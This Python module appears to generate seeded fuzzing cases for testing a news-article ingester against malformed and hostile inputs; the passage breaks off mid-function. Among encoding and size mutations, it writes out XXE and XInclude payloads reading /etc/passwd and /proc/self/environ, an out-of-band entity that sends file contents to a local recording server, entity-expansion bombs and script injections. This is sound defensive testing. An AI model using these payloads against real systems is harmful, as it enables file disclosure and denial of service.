"""Seeded hostile inputs for every way newsledger reads an article.

    case(seed, family, number) -> Case     # the same case for the same three, on any machine

Families: ``text``, ``jsonl``, ``csv``, ``html``, ``feed`` (RSS, Atom, RDF)
are files; ``api`` is a body for ``POST /api/articles``; ``url`` is an answer
of the local feed server (``Served``) read by ``ingest URL`` and by
``watch``. Each case starts from a valid document built around a short
excerpt of a real corpus article, then is broken in one way (its ``kind``):
random bytes, truncation, wrong and mixed encodings, NULs, BOMs, huge lines
and fields, deep nesting, entity expansion, external entities, gzip bombs,
endless and redirecting feeds. Some kinds leave the document valid, so a
share of the cases should be stored as articles.

External entities point at ``CANARY`` (a file the benchmark writes) and at
``/etc/passwd``, or at ``{base}/entity/...`` on the local server, which
records every request it gets there: none of that may reach the store.
"""

from __future__ import annotations

import codecs
import gzip
import html
import json
import random
import zlib
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

SHARED = Path(__file__).resolve().parents[1].parent / "shared"
CORPUS = SHARED / "corpus" / "ukraine-2022" / "articles.jsonl"
CANARY_TEXT = "CANARY-7f3a9c-if-you-can-read-this-a-local-file-leaked"
LEAK_MARKERS = (CANARY_TEXT, "root:x:0:0", "/usr/sbin/nologin")  # the canary file, /etc/passwd
MAX_BYTES = 20_000_000  # the max_bytes setting the run uses (its default)
MAX_BODY_BYTES = 10_000_000  # the web app's max_body_bytes (its default)
TOKEN = "robustness-token"

FAMILIES = ("text", "jsonl", "csv", "html", "feed", "api", "url")


@dataclass(frozen=True)
class Served:
    """How the local server answers a URL case. ``head`` is the raw status line and headers
    (``{base}`` is replaced by the server's address, ``{length}`` by the body's length);
    ``mode`` says how the body goes out: ``plain`` at once, ``chunked``, ``endless`` (chunks
    of ``body`` for ever), ``trickle`` (a byte a second), ``silent`` (nothing at all),
    ``reset`` (the connection is reset after the head), ``gzip_bomb`` (``bomb_mb`` of
    ``body`` repeated, gzip-compressed on the fly)."""

    head: str
    body: bytes = b""
    mode: str = "plain"
    bomb_mb: int = 0
    hops: int = 0  # mode "chain": redirects before the body


@dataclass(frozen=True)
class Case:
    family: str
    kind: str
    name: str  # a file name with its suffix, or a label
    data: bytes = b""  # the file, or the request body
    content_type: str = ""  # api: the request's Content-Type
    token: str | None = TOKEN  # api: the bearer token sent
    upload_name: str = ""  # api: the file name of a multipart upload
    served: Served | None = None  # url: how the server answers
    expect: str = ""  # "accept" or "reject" where the outcome is known in advance
    expect_items: int = 0  # how many outcomes at least (one per JSONL line, say)
    extra: dict = field(default_factory=dict)


# --- material -------------------------------------------------------------------------------


@cache
def _rows() -> tuple[dict, ...]:
    rows = []
    with CORPUS.open(encoding="utf-8") as handle:
        for line, _ in zip(handle, range(400)):
            row = json.loads(line)
            row["text"] = " ".join(row["text"].split())
            rows.append(row)
    return tuple(rows)


def excerpt(rng: random.Random, lo: int = 200, hi: int = 700) -> dict:
    """A real article cut to ``lo``-``hi`` characters at a sentence end, with its metadata."""
    row = dict(rng.choice(_rows()))
    text = row["text"]
    cut = text.rfind(". ", lo, hi)
    row["text"] = text[: cut + 1] if cut > 0 else text[:hi]
    return row


NON_ASCII = ["\u201cWe will stay,\u201d", "Kyiv\u2019s", "caf\u00e9", "M\u00fcller", "\u041a\u0438\u0457\u0432",
             "\u0425\u0430\u0440\u043a\u0456\u0432", "\u2013", "\u20ac5 million", "Zaporizhzhia \u2014 the plant"]
ENCODINGS = ["latin-1", "cp1252", "utf-16-le", "utf-16-be", "utf-32", "koi8-u", "shift_jis", "gb18030",
             "mac_roman", "cp037", "utf-7", "iso-8859-5", "big5"]
BOMS = [codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, codecs.BOM_UTF32_LE, codecs.BOM_UTF8 * 2,
        b"\xef\xbb", b"\xfe"]


def _accented(rng: random.Random, text: str) -> str:
    words = text.split(" ")
    for _ in range(rng.randint(1, 6)):
        words.insert(rng.randrange(len(words) + 1), rng.choice(NON_ASCII))
    return " ".join(words)


def _encode(rng: random.Random, text: str) -> bytes:
    encoding = rng.choice(ENCODINGS)
    return text.encode(encoding, errors=rng.choice(["replace", "ignore", "xmlcharrefreplace"]))


def _random_unicode(rng: random.Random, n: int) -> str:
    pools = [(0x20, 0x7E), (0x00, 0x1F), (0x80, 0x9F), (0xA0, 0x2FF), (0x300, 0x36F), (0x400, 0x4FF),
             (0x200B, 0x202E), (0xFFF0, 0xFFFF), (0x1F300, 0x1F6FF), (0xE000, 0xE0FF), (0x10000, 0x10FFFF)]
    chars = []
    for _ in range(n):
        lo, hi = rng.choice(pools)
        chars.append(chr(rng.randint(lo, hi)))
    return "".join(chars)


def _size(rng: random.Random, lo: int, hi: int) -> int:
    """Log-uniform between ``lo`` and ``hi``."""
    return int(lo * (hi / lo) ** rng.random())


# --- mutations of any document --------------------------------------------------------------


def _truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randrange(1, max(2, len(data)))]


def _flip(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 40)):
        out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out)


def _splice(rng: random.Random, data: bytes) -> bytes:
    """Cut, repeat and move random ranges: structure broken, words mostly kept."""
    out = data
    for _ in range(rng.randint(1, 6)):
        a = rng.randrange(len(out))
        b = min(len(out), a + rng.randint(1, 300))
        piece = out[a:b]
        at = rng.randrange(len(out) + 1)
        out = rng.choice([out[:a] + out[b:], out[:at] + piece * rng.randint(1, 20) + out[at:]])
        if not out:
            out = data
    return out


def _nuls(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.randint(1, 20)):
        out[rng.randrange(len(out) + 1):0] = b"\x00" * rng.randint(1, 64)
    return bytes(out)


def _bom(rng: random.Random, data: bytes) -> bytes:
    bom = rng.choice(BOMS)
    where = rng.choice(["start", "start", "middle", "both"])
    if where == "start":
        return bom + data
    at = rng.randrange(len(data) + 1)
    middle = data[:at] + bom + data[at:]
    return bom + middle if where == "both" else middle


def _controls(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    share = rng.choice([0.01, 0.04, 0.2])
    for _ in range(int(len(out) * share) + 1):
        out[rng.randrange(len(out) + 1):0] = bytes([rng.choice([1, 2, 7, 8, 11, 12, 27, 127])])
    return bytes(out)


def _mixed(rng: random.Random, text: str) -> bytes:
    parts = text.split(" ")
    out = []
    for i in range(0, len(parts), 7):
        chunk = " ".join(parts[i : i + 7]) + " "
        out.append(_accented(rng, chunk).encode(rng.choice(["utf-8", "cp1252", "latin-1", "utf-16"]), "replace"))
    return b"".join(out)


COMMON = ("random_bytes", "random_unicode", "truncated", "flipped", "spliced", "wrong_encoding", "mixed_encoding",
          "nul_bytes", "bom", "control_chars", "oversize")


def _common(rng: random.Random, kind: str, valid: bytes, text: str) -> bytes:
    if kind == "random_bytes":
        return rng.randbytes(_size(rng, 1, 300_000))
    if kind == "random_unicode":
        return _random_unicode(rng, _size(rng, 1, 20_000)).encode("utf-8", "surrogatepass")
    if kind == "truncated":
        return _truncate(rng, valid)
    if kind == "flipped":
        return _flip(rng, valid)
    if kind == "spliced":
        return _splice(rng, valid)
    if kind == "wrong_encoding":
        return _encode(rng, _accented(rng, valid.decode("utf-8")))
    if kind == "mixed_encoding":
        return _mixed(rng, valid.decode("utf-8"))
    if kind == "nul_bytes":
        return _nuls(rng, valid)
    if kind == "bom":
        return _bom(rng, valid)
    if kind == "control_chars":
        return _controls(rng, valid)
    if kind == "oversize":  # over max_bytes: refused before it is read
        return (text.encode() + b"\n") * (MAX_BYTES // (len(text) + 1) + rng.randint(1, 50))
    raise ValueError(kind)


def _pick(rng: random.Random, weights: dict[str, int]) -> str:
    return rng.choices(list(weights), list(weights.values()))[0]


COMMON_WEIGHTS = {"random_bytes": 5, "random_unicode": 4, "truncated": 6, "flipped": 5, "spliced": 5,
                  "wrong_encoding": 6, "mixed_encoding": 3, "nul_bytes": 4, "bom": 5, "control_chars": 3,
                  "oversize": 1}


# --- plain text -----------------------------------------------------------------------------


def _text_case(rng: random.Random, number: int) -> Case:
    row = excerpt(rng)
    prefix = rng.choice(["", "", f" date {row['date']} ", " date 2022-02-30 ", " date 9999-99-99\n"])
    valid = (prefix + row["text"]).encode()
    kind = _pick(rng, {**COMMON_WEIGHTS, "valid": 8, "accented": 3, "huge_line": 2, "long_article": 1,
                       "long_word": 2, "combining_flood": 2, "blank": 2, "boilerplate_only": 1, "crlf_mix": 2,
                       "zero_width": 2, "numbers_only": 1, "quotes_unbalanced": 2, "quote_run": 1})
    name = f"text-{number}.{rng.choice(['txt', 'txt', 'text', ''])}".rstrip(".")
    if kind in COMMON:
        data = _common(rng, kind, valid, row["text"])
    elif kind == "valid":
        data = valid
    elif kind == "accented":
        data = _accented(rng, row["text"]).encode(rng.choice(["utf-8", "utf-8-sig", "utf-16", "cp1252"]), "replace")
    elif kind == "huge_line":  # one line longer than max_article_chars, or near it
        data = (row["text"] + " ").encode() * (_size(rng, 1_050_000, 19_000_000) // (len(row["text"]) + 1))
    elif kind == "long_article":  # under max_article_chars: stored, or rejected for item_seconds
        data = (row["text"] + "\n").encode() * (_size(rng, 20_000, 120_000) // len(row["text"]))
    elif kind == "long_word":
        data = row["text"].encode() + b" " + rng.choice([b"a", b"-", b"1,", b"\xe2\x80\x9c"]) * _size(rng, 1000, 400_000)
    elif kind == "combining_flood":
        data = (row["text"][:100] + "Z" + "\u0336\u0321\u031b" * _size(rng, 100, 100_000)).encode()
    elif kind == "blank":
        data = rng.choice([b"", b" ", b"\n\n\t\r\n", b"\xef\xbb\xbf", b"\xc2\xa0" * 50, "\u2028\u3000".encode()])
    elif kind == "boilerplate_only":
        data = b"Share this article\nFollow us on Twitter\nAdvertisement\nREAD ALSO:\nSome headline\n"
    elif kind == "crlf_mix":
        data = row["text"].replace(". ", rng.choice([".\r", ".\r\n", ".\n\r", ".\u2029"])).encode()
    elif kind == "zero_width":
        data = "\u200b".join(row["text"]).encode() if rng.random() < 0.5 else ("\u202e" + row["text"]).encode()
    elif kind == "numbers_only":
        data = " ".join(str(rng.randint(0, 10**12)) for _ in range(rng.randint(1, 3000))).encode()
    elif kind == "quote_run":  # quotation marks in a row: the pipeline crawls over them (item_seconds stops it)
        data = (row["text"] + " " + rng.choice(["\u201c", '"', "\u201d", "\u00ab", "'"]) * _size(rng, 2000, 190_000)).encode()
    else:  # quotes_unbalanced
        data = (('"He said "they will "not stop,\u201d ' + row["text"][:300] + " \u201c") * rng.randint(1, 40)).encode()
    return Case("text", kind, name, data)


# --- JSON and JSONL ---------------------------------------------------------------------------


def _record(rng: random.Random) -> dict:
    row = excerpt(rng)
    record = {key: row.get(key) for key in ("source", "date", "url", "title", "text")}
    if rng.random() < 0.2:
        del record[rng.choice(["source", "date", "url", "title"])]
    return record


def _deep_json(rng: random.Random) -> str:
    depth = _size(rng, 500, 2_000_000)
    shape = rng.choice(["array", "object", "mixed"])
    if shape == "array":
        return "[" * depth + "]" * depth
    if shape == "object":
        return '{"a":' * depth + "1" + "}" * depth
    return '{"text": "deep", "meta": ' + "[{" * (depth // 2) + "}]" * (depth // 2) + "}"


def _jsonl_case(rng: random.Random, number: int) -> Case:
    records = [_record(rng) for _ in range(rng.randint(1, 4))]
    lines = [json.dumps(r, ensure_ascii=rng.random() < 0.5) for r in records]
    valid = ("\n".join(lines) + "\n").encode()
    kind = _pick(rng, {**COMMON_WEIGHTS, "valid": 8, "deep_nesting": 5, "huge_field": 3, "huge_title": 2,
                       "bad_escapes": 5, "huge_number": 3, "wrong_types": 4, "garbage_between": 5,
                       "json_document": 4, "many_rows": 2, "nan_and_dates": 3, "huge_line_keys": 1})
    suffix = rng.choice([".jsonl", ".jsonl", ".ndjson", ".json"])
    name = f"jsonl-{number}{suffix}"
    expect_items = 0
    if kind in COMMON:
        data = _common(rng, kind, valid, records[0]["text"])
    elif kind == "valid":
        data = valid
        expect_items = len(lines) if suffix != ".json" else 0
    elif kind in ("deep_nesting", "bad_escapes", "huge_number", "wrong_types", "nan_and_dates", "huge_line_keys"):
        if kind == "deep_nesting":
            bad = _deep_json(rng)
        elif kind == "bad_escapes":
            escape = rng.choice(["\\ud800", "\\udfff", "\\ud83d", "\\u0000", "\\u001b", "\\uffff", "\\ufeff",
                                 "\\u202e", "\\ud800\\u0000"])
            field_name = rng.choice(["text", "title", "source", "url", "date"])
            bad_record = _record(rng)
            bad_record[field_name] = f"{bad_record.get(field_name) or 'x'} {escape} tail"
            bad = json.dumps(bad_record).replace("\\\\u", "\\u")
        elif kind == "huge_number":
            bad = '{"text": "Shelling continued.", "count": ' + "9" * _size(rng, 4000, 200_000) + "}"
        elif kind == "wrong_types":
            bad = json.dumps(rng.choice([
                {"text": 5}, {"text": ["a", "b"]}, {"text": {"a": 1}}, {"text": None}, {"text": True},
                {"text": "Fine text.", "date": {"y": 2022}}, {"text": "Fine text here.", "title": [1, 2]},
                {"TEXT ": "Case and spaces in the key."}, {"": ""}, {"text": ""}, {"text": " \u3000 "},
            ]))
        elif kind == "nan_and_dates":
            bad = rng.choice([
                '{"text": "Kyiv was shelled again.", "date": NaN}', '{"text": "Night raids.", "date": Infinity}',
                '{"text": "Dates are odd.", "date": "0000-00-00"}', '{"text": "Year ten thousand.", "date": "10000-01-01"}',
                '{"text": "Leap day.", "date": "2022-02-29T25:61:61Z"}', '{"text": "Epoch.", "date": 1646092800}',
                '{"text": "Huge date.", "date": "' + "2022-" * 5000 + '"}', '{"text": "Minus.", "date": -1e308}',
            ])
        else:  # huge_line_keys: one line, many keys
            bad = json.dumps({f"k{i}": i for i in range(_size(rng, 1000, 300_000))} | {"text": "Many keys."})
        at = rng.randrange(len(lines) + 1)
        lines.insert(at, bad)
        data = ("\n".join(lines) + "\n").encode()
        name = f"jsonl-{number}.jsonl"  # read line by line: every line gets an outcome
        expect_items = len(lines)
    elif kind == "huge_field":
        record = _record(rng)
        record["text"] = (record["text"] + " ") * (_size(rng, 1_100_000, 15_000_000) // (len(record["text"]) + 1))
        data = (json.dumps(record) + "\n" + lines[0] + "\n").encode()
        name, expect_items = f"jsonl-{number}.jsonl", 2
    elif kind == "huge_title":
        record = _record(rng)
        record[rng.choice(["title", "source", "url"])] = "T" * _size(rng, 10_000, 5_000_000)
        data = (json.dumps(record) + "\n").encode()
        name, expect_items = f"jsonl-{number}.jsonl", 1
    elif kind == "garbage_between":
        for _ in range(rng.randint(1, 5)):
            lines.insert(rng.randrange(len(lines) + 1), rng.choice([
                "{", "}", "[]", "null", '"just a string"', "42", "{'single': 'quotes'}", '{"text": "unterminated',
                '{"text": "trailing comma",}', "\x1b[31m red", "// comment", '{"a":1}{"b":2}',
                rng.randbytes(40).decode("latin-1").replace("\x00", ""),  # a NUL byte makes the file binary
            ]))
        data = ("\n".join(lines) + "\n").encode("utf-8", "replace")
        name = f"jsonl-{number}.jsonl"
        expect_items = len([line for line in lines if line.strip()])
    elif kind == "json_document":
        data = json.dumps(rng.choice([records, records[0], {"articles": records}, [records], [], {}, [1, 2], "x"])).encode()
        name = f"jsonl-{number}.json"
    else:  # many_rows: the same few rows again and again (duplicates and rejections, not new articles)
        many = [lines[0], '{"text": ""}', '{"title": "no text"}'] * _size(rng, 300, 20_000)
        data = ("\n".join(many) + "\n").encode()
        name = f"jsonl-{number}.jsonl"
        expect_items = len(many)
    return Case("jsonl", kind, name, data, expect_items=expect_items)


# --- CSV ------------------------------------------------------------------------------------


def _csv_quote(value: object, delimiter: str) -> str:
    text = "" if value is None else str(value)
    if any(c in text for c in (delimiter, '"', "\n", "\r")):
        return '"' + text.replace('"', '""') + '"'
    return text


def _csv_case(rng: random.Random, number: int) -> Case:
    delimiter = rng.choice([",", ",", ";", "\t", "|"])
    columns = ["title", "date", "text", "source"]
    rng.shuffle(columns)
    records = [_record(rng) for _ in range(rng.randint(1, 4))]
    lines = [delimiter.join(columns)] + [delimiter.join(_csv_quote(r.get(c), delimiter) for c in columns) for r in records]
    valid = ("\r\n".join(lines) + "\r\n").encode()
    kind = _pick(rng, {**COMMON_WEIGHTS, "valid": 8, "ragged": 4, "unbalanced_quotes": 5, "sniffer_bait": 5,
                       "many_columns": 2, "huge_field": 3, "header_only": 2, "no_text_column": 2,
                       "duplicate_header": 2, "cr_only": 2, "quoted_newlines": 3, "huge_row_count": 1})
    name = f"csv-{number}.{'tsv' if delimiter == chr(9) and rng.random() < 0.5 else 'csv'}"
    if kind in COMMON:
        data = _common(rng, kind, valid, records[0]["text"])
    elif kind == "valid":
        data = valid
    elif kind == "ragged":
        lines += [delimiter * rng.randint(0, 30), "x", delimiter.join(["a"] * rng.randint(5, 500))]
        rng.shuffle(lines[1:])
        data = "\n".join(lines).encode()
    elif kind == "unbalanced_quotes":
        at = rng.randrange(1, len(lines))
        lines[at] = '"' + lines[at] + rng.choice(['"x"y"', '""', '"', "'"])
        data = "\n".join(lines).encode()
    elif kind == "sniffer_bait":  # quote patterns that make a regex-based dialect sniffer backtrack
        piece = rng.choice(['"a,"b,"c\n', '"\n', '",', ",'", '","', '\t"', ',"a', '" ,'])
        data = (lines[0] + "\n" + piece * (_size(rng, 2_000, 400_000) // len(piece))).encode()
    elif kind == "many_columns":
        header = delimiter.join(["text"] + [f"c{i}" for i in range(_size(rng, 1000, 200_000))])
        data = (header + "\n" + _csv_quote(records[0]["text"], delimiter) + delimiter * 10 + "\n").encode()
    elif kind == "huge_field":
        big = (records[0]["text"] + " ") * (_size(rng, 200_000, 15_000_000) // (len(records[0]["text"]) + 1))
        data = ("title,text\nbig," + _csv_quote(big, ",") + "\n").encode()
    elif kind == "header_only":
        data = (lines[0] + rng.choice(["", "\n", "\n\n\n", "\n" + delimiter * 3 + "\n"])).encode()
    elif kind == "no_text_column":
        data = ("\n".join(lines).replace("text", "body", 1)).encode()
    elif kind == "duplicate_header":
        data = ("text" + delimiter + lines[0] + "\n" + "\n".join(("x" + delimiter + line) for line in lines[1:])).encode()
    elif kind == "cr_only":
        data = "\r".join(lines).encode()
    elif kind == "quoted_newlines":
        record = records[0]
        body = '"' + record["text"].replace(". ", '.\n\n"" ').replace('"', '""') + '"'
        data = ("title,text\n" + _csv_quote(record.get("title"), ",") + "," + body + "\n").encode()
    else:  # huge_row_count: the same row many times (duplicates, not new articles)
        data = (lines[0] + "\n" + (lines[1] + "\n") * _size(rng, 1000, 50_000)).encode()
    return Case("csv", kind, name, data)


# --- HTML -----------------------------------------------------------------------------------


def _page(row: dict, body: str, head: str = "") -> str:
    title = html.escape(row.get("title") or "Report")
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title>"
            f"<meta property='article:published_time' content='{row.get('date')}'>{head}</head>"
            f"<body><article><h1>{title}</h1>{body}</article></body></html>")


def _paragraphs(text: str) -> str:
    return "".join(f"<p>{html.escape(s)}.</p>" for s in text.split(". ") if s)


XXE_TARGETS = ["file:///etc/passwd", "file://{canary}", "{base}/entity/{case}", "file:///proc/self/environ",
               "/etc/hostname", "php://filter/resource=/etc/passwd"]


def _xxe_doctype(rng: random.Random, root: str, number: int) -> tuple[str, str]:
    """(doctype, the entity reference to place in the text)."""
    target = rng.choice(XXE_TARGETS).replace("{case}", str(number))
    style = rng.choice(["system", "public", "parameter", "nested"])
    if style == "system":
        return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{target}">]>', "&xxe;"
    if style == "public":
        return f'<!DOCTYPE {root} [<!ENTITY xxe PUBLIC "-//X//Y" "{target}">]>', "&xxe;"
    if style == "parameter":
        return f'<!DOCTYPE {root} [<!ENTITY % pe SYSTEM "{target}"> %pe;]>', "&exfil;"
    return (f'<!DOCTYPE {root} SYSTEM "{target}" [<!ENTITY % file SYSTEM "{target}">'
            f'<!ENTITY % all "<!ENTITY send SYSTEM \'{{base}}/entity/{number}?%file;\'>"> %all;]>', "&send;")


def _bomb_doctype(rng: random.Random, root: str) -> tuple[str, str]:
    if rng.random() < 0.5:  # billion laughs
        levels = rng.randint(5, 12)
        entities = '<!ENTITY l0 "lol">' + "".join(
            f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels))
        return f"<!DOCTYPE {root} [{entities}]>", f"&l{levels - 1};"
    big = "x" * _size(rng, 10_000, 500_000)  # quadratic blowup: one big entity used many times
    return f'<!DOCTYPE {root} [<!ENTITY a "{big}">]>', "&a;" * _size(rng, 100, 50_000)


def _html_case(rng: random.Random, number: int) -> Case:
    row = excerpt(rng)
    body = _paragraphs(row["text"])
    valid = _page(row, body, "<script>var SCRIPT_TEXT = 1;</script>").encode()
    kind = _pick(rng, {**COMMON_WEIGHTS, "valid": 8, "deep_nesting": 5, "unclosed": 4, "parser_bait": 4,
                       "entities": 4, "xxe": 4, "entity_bomb": 2, "charset_lie": 4, "script_flood": 2,
                       "huge_paragraph": 2, "many_paragraphs": 2, "xhtml": 2, "frames_and_embeds": 2})
    name = f"html-{number}.{rng.choice(['html', 'htm', 'xhtml'])}"
    if kind in COMMON:
        data = _common(rng, kind, valid, row["text"])
    elif kind == "valid":
        data = valid
    elif kind == "deep_nesting":
        tag = rng.choice(["div", "span", "table><tr><td", "ul><li", "b", "blockquote", "a href='#'"])
        close = "".join(f"</{t.split()[0]}>" for t in reversed(tag.split("><")))
        depth = _size(rng, 300, 400_000)
        data = _page(row, f"<{tag}>" * depth + body + close * rng.choice([depth, 0])).encode()
    elif kind == "unclosed":
        tail = rng.choice(["<!--", "<![CDATA[", "<script>", "<p", "<a href='", "<title>", "<style>", "<textarea>"])
        data = (_page(row, body)[: rng.randrange(40, 400)] + body + tail + "x" * _size(rng, 10, 300_000)).encode()
    elif kind == "parser_bait":  # incomplete constructs some HTML parsers rescan again and again
        piece = rng.choice(["<a b='", "<a", "</", "<!--", "<?", "<!", "&#", "<a b=\"c\" d"])
        data = _page(row, body + html.escape(" ") + piece * _size(rng, 1000, 200_000)).encode()
    elif kind == "entities":
        refs = rng.choice(["&#0;", "&#xD800;", "&#x110000;", "&#99999999999;", "&#x0;", "&nbsp;" * 3, "&amp;amp;",
                           "&unknown;", "&#128512;", "&#x202e;", "&#27;"])
        data = _page(row, body.replace(" ", f" {refs} ", rng.randint(1, 50))).encode()
    elif kind == "xxe":
        doctype, ref = _xxe_doctype(rng, "html", number)
        page = _page(row, f"<p>Before the entity {ref} after it.</p>" + body)
        data = ('<?xml version="1.0"?>' + doctype + page.replace("<!DOCTYPE html>", "")).encode()
    elif kind == "entity_bomb":
        doctype, ref = _bomb_doctype(rng, "html")
        data = ('<?xml version="1.0"?>' + doctype + _page(row, f"<p>{ref}</p>" + body).replace("<!DOCTYPE html>", "")).encode()
    elif kind == "charset_lie":
        declared = rng.choice(["utf-16", "utf-32", "shift_jis", "iso-2022-jp", "utf-7", "x-unknown", "ebcdic-cp-us"])
        page = _page(row, _paragraphs(_accented(rng, row["text"]))).replace("charset='utf-8'", f"charset='{declared}'")
        data = page.encode(rng.choice(["utf-8", "cp1252", "latin-1"]), "replace")
    elif kind == "script_flood":
        data = _page(row, ("<script>" + "x=1;" * 1000 + "</script>") * rng.randint(1, 200) + body).encode()
    elif kind == "huge_paragraph":
        data = _page(row, "<p>" + html.escape(row["text"] + " ") * (_size(rng, 300_000, 18_000_000) // (len(row["text"]) + 1)) + "</p>").encode()
    elif kind == "many_paragraphs":
        data = _page(row, body * _size(rng, 10, 20_000)).encode()
    elif kind == "xhtml":
        data = ('<?xml version="1.0" encoding="' + rng.choice(["utf-8", "latin-1", "utf-16", "bogus"]) + '"?>'
                + _page(row, body).replace("<html>", '<html xmlns="http://www.w3.org/1999/xhtml">')).encode()
    else:  # frames_and_embeds
        data = _page(row, "<iframe srcdoc='<p>IFRAME-TEXT</p>'>FALLBACK</iframe><object data='x'>OBJECT-TEXT</object>"
                          "<svg><text>SVG-TEXT</text><script>alert(1)</script></svg><math><mi>x</mi></math>"
                          "<form><input value='INPUT'><textarea>TEXTAREA</textarea></form>" + body).encode()
    return Case("html", kind, name, data)


# --- RSS, Atom, RDF -------------------------------------------------------------------------


def _item(row: dict, flavour: str, body: str | None = None) -> str:
    text = body if body is not None else xml_escape("<p>" + html.escape(row["text"]) + "</p>")
    title = xml_escape(row.get("title") or "Report")
    url = xml_escape(row.get("url") or "https://example.com/x")
    if flavour == "atom":
        return (f"<entry><title>{title}</title><link href='{url}'/><id>{url}</id>"
                f"<updated>{row.get('date')}T08:00:00Z</updated><content type='html'>{text}</content></entry>")
    return (f"<item><title>{title}</title><link>{url}</link><pubDate>{row.get('date')}</pubDate>"
            f"<description>{text}</description></item>")


def feed_document(rows: list[dict], flavour: str = "rss", doctype: str = "", bodies: list[str] | None = None,
                  title: str = "Robustness Wire", encoding: str = "utf-8") -> str:
    items = "".join(_item(row, flavour, bodies[i] if bodies else None) for i, row in enumerate(rows))
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'
    if flavour == "atom":
        return f"{declaration}{doctype}<feed xmlns='http://www.w3.org/2005/Atom'><title>{title}</title>{items}</feed>"
    if flavour == "rdf":
        return (f"{declaration}{doctype}<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' "
                f"xmlns='http://purl.org/rss/1.0/'><channel><title>{title}</title></channel>{items}</rdf:RDF>")
    return f"{declaration}{doctype}<rss version='2.0'><channel><title>{title}</title>{items}</channel></rss>"


def _hostile_feed(rng: random.Random, number: int) -> tuple[str, bytes, int]:
    """(kind, feed bytes, entries a valid reading gives at least)."""
    flavour = rng.choice(["rss", "rss", "atom", "rdf"])
    rows = [excerpt(rng) for _ in range(rng.randint(1, 3))]
    root = {"rss": "rss", "atom": "feed", "rdf": "rdf:RDF"}[flavour]
    valid = feed_document(rows, flavour).encode()
    kind = _pick(rng, {**COMMON_WEIGHTS, "valid": 8, "deep_nesting": 4, "entity_bomb": 4, "xxe": 8, "xinclude": 2,
                       "html_bait": 4, "huge_entry": 2, "many_entries": 2, "encoding_lie": 4, "cdata_tricks": 3,
                       "stylesheet": 1, "entries_without_text": 2})
    if kind in COMMON:
        return kind, _common(rng, kind, valid, rows[0]["text"]), 0
    if kind == "valid":
        return kind, valid, len(rows)
    if kind == "deep_nesting":
        depth = _size(rng, 300, 400_000)
        body = "<a>" * depth + xml_escape(rows[0]["text"]) + "</a>" * rng.choice([depth, 0])
        where = rng.choice(["description", "document"])
        if where == "description":
            return kind, feed_document(rows[:1], "rss", bodies=[body]).encode(), 0
        return kind, valid.replace(b"<channel>", b"<channel>" + ("<x>" * depth + "</x>" * depth).encode()), 0
    if kind == "entity_bomb":
        doctype, ref = _bomb_doctype(rng, root)
        return kind, feed_document(rows, flavour, doctype, bodies=[ref + " " + xml_escape(r["text"]) for r in rows]).encode(), 0
    if kind == "xxe":
        doctype, ref = _xxe_doctype(rng, root, number)
        bodies = [xml_escape(r["text"]) + f" Leaked: {ref} end." for r in rows]
        return kind, feed_document(rows, flavour, doctype, bodies=bodies).encode(), 0
    if kind == "xinclude":
        target = rng.choice(["file:///etc/passwd", "file://{canary}"])
        body = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{target}' parse='text'/> {xml_escape(rows[0]['text'])}"
        return kind, feed_document(rows[:1], "rss", bodies=[body]).encode(), 0
    if kind == "html_bait":  # escaped HTML in a description that a regex- or rescan-based HTML parser chokes on
        piece = rng.choice(["<a b='", "<a", "</", "<!--", "<?", "<a b=\"c\" d"])
        body = "<![CDATA[" + html.escape(rows[0]["text"]) + " " + piece * _size(rng, 1000, 300_000) + "]]>"
        return kind, feed_document(rows[:1], flavour, bodies=[body]).encode(), 0
    if kind == "huge_entry":
        text = xml_escape(rows[0]["text"] + " ") * (_size(rng, 300_000, 18_000_000) // (len(rows[0]["text"]) + 1))
        return kind, feed_document(rows[:1], flavour, bodies=[text]).encode(), 0
    if kind == "many_entries":  # the same entry many times: duplicates, not new articles
        return kind, feed_document(rows[:1] * _size(rng, 100, 20_000), flavour).encode(), 1
    if kind == "encoding_lie":
        declared = rng.choice(["utf-16", "utf-32", "shift_jis", "ebcdic-cp-us", "x-bogus", "utf-7", "cp037"])
        document = feed_document([{**r, "text": _accented(rng, r["text"])} for r in rows], flavour, encoding=declared)
        return kind, document.encode(rng.choice(["utf-8", "cp1252", "latin-1"]), "replace"), 0
    if kind == "cdata_tricks":
        body = rng.choice(["<![CDATA[" + rows[0]["text"] + "]]>]]>", "<![CDATA[<script>alert(1)</script>"
                           + rows[0]["text"] + "]]>", "<![CDATA[" * 100 + rows[0]["text"], "]]>" + rows[0]["text"]])
        return kind, feed_document(rows[:1], flavour, bodies=[body]).encode(), 0
    if kind == "stylesheet":
        return kind, valid.replace(b"?>", b'?><?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>', 1), 0
    bodies = ["", "   ", "<p></p>", "<script>only script</script>"]  # entries_without_text
    return kind, feed_document(rows, flavour, bodies=[rng.choice(bodies) for _ in rows]).encode(), len(rows)


def _feed_case(rng: random.Random, number: int) -> Case:
    kind, data, entries = _hostile_feed(rng, number)
    name = f"feed-{number}.{rng.choice(['xml', 'rss', 'atom', 'xml'])}"
    return Case("feed", kind, name, data, expect_items=entries)


# --- POST /api/articles ---------------------------------------------------------------------

FILE_FAMILIES = {"text": _text_case, "jsonl": _jsonl_case, "csv": _csv_case, "html": _html_case, "feed": _feed_case}


def _api_case(rng: random.Random, number: int) -> Case:
    records = [_record(rng) for _ in range(rng.randint(1, 3))]
    kind = _pick(rng, {"valid_object": 6, "valid_list": 4, "valid_wrapped": 3, "random_bytes": 5, "truncated": 5,
                       "deep_nesting": 6, "oversize_body": 2, "huge_text": 2, "bad_escapes": 5, "wrong_types": 5,
